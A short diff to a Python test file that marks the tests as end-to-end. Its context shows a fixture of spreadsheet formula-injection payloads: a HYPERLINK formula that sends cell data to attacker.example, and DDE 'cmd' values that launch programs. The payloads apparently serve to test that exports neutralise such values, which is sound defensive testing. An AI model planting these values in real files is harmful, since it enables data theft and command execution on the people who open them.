@@ -16,6 +16,8 @@ from sqlalchemy import text
 from tests.conftest import run_cli
 from tests.web.conftest import EDITOR, csrf_token, make_app, sign_in
 
+pytestmark = pytest.mark.e2e  # real files, processes or HTTP: the outer loop
+
 HOSTILE = {"lead": '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")',
            "with_whom": "+cmd|' /C calc'!A0", "note": "@SUM(1+1)",
            "next_step": "-2+3+cmd|' /C notepad'!'A1'"}
